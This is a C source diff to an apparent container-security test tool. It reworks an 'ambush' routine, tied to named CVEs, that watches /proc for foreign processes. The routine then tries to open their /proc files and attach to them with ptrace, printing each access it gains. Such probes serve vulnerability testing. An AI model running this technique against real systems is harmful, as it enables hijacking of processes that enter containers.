@@ -259,16 +259,20 @@ static int verb_exec(int argc, char **argv)
 
 /* ---- an attack: CVE-2016-9962, CVE-2016-8649, CVE-2016-8659 ---- */
 
-/* True once process @pid executes our own program, as everybody here is meant to. */
-static bool is_ours(pid_t pid)
+/*
+ * False once process @pid executes our own program, as everybody here is meant to, and once it has
+ * ended: a zombie of ours has no program any more.
+ */
+static bool is_stranger(pid_t pid)
 {
 	char own[PATH_MAX] = "", other[PATH_MAX] = "", path[64];
 
 	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
-	if (readlink("/proc/self/exe", own, sizeof(own) - 1) < 0 ||
-		readlink(path, other, sizeof(other) - 1) < 0)
+	if (readlink("/proc/self/exe", own, sizeof(own) - 1) < 0)
 		return false;
-	return strcmp(own, other) == 0;
+	if (readlink(path, other, sizeof(other) - 1) < 0)
+		return errno == EACCES || errno == EPERM;
+	return strcmp(own, other) != 0;
 }
 
 /* What could be done with a process that is not (yet) ours: printed.  A process that becomes ours
@@ -283,18 +287,18 @@ static void ambush(pid_t pid)
 		int fd;
 
 		snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, files[i]);
-		if (is_ours(pid))
+		if (!is_stranger(pid))
 			return;
 		fd = open(path, i == 0 ? O_RDWR | O_CLOEXEC : O_RDONLY | O_CLOEXEC);
-		if (fd >= 0 && !is_ours(pid) && kill(pid, 0) == 0)
+		if (fd >= 0 && is_stranger(pid))
 			printf("got %s\n", files[i]);
 		if (fd >= 0)
 			close(fd);
 	}
-	if (!is_ours(pid) && ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
+	if (is_stranger(pid) && ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
 		int status;
 
-		if (!is_ours(pid))
+		if (is_stranger(pid))
 			printf("got it by ptrace\n");
 		if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 &&
 			waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
@@ -318,7 +322,7 @@ static int verb_ambush(int argc, char **argv)
 		while (dir && (entry = readdir(dir))) {
 			pid_t pid = (pid_t)strtol(entry->d_name, NULL, 10);
 
-			if (pid <= 1 || pid == getpid() || is_ours(pid))
+			if (pid <= 1 || pid == getpid() || !is_stranger(pid))
 				continue;
 			if (seen++ == 0)
 				printf("somebody came\n");
